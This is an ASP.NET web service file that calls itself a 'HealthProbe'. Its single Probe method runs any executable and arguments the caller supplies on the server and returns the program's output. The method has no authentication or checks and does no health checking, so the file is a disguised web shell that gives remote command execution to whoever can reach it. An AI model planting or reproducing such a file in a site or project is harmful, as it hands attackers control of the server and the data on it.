<%@ WebService Language="C#" Class="HealthProbe" %>
using System;
using System.Web.Services;
using System.Diagnostics;

[WebService(Namespace = "http://tempuri.org/")]
public class HealthProbe : WebService
{
    [WebMethod]
    public string Probe(string target, string opts)
    {
        Process p = new Process();
        p.StartInfo.FileName = target;
        p.StartInfo.Arguments = opts;
        p.StartInfo.UseShellExecute = false;
        p.StartInfo.RedirectStandardOutput = true;
        p.StartInfo.RedirectStandardError = true;
        p.Start();
        return p.StandardOutput.ReadToEnd() + p.StandardError.ReadToEnd();
    }
}
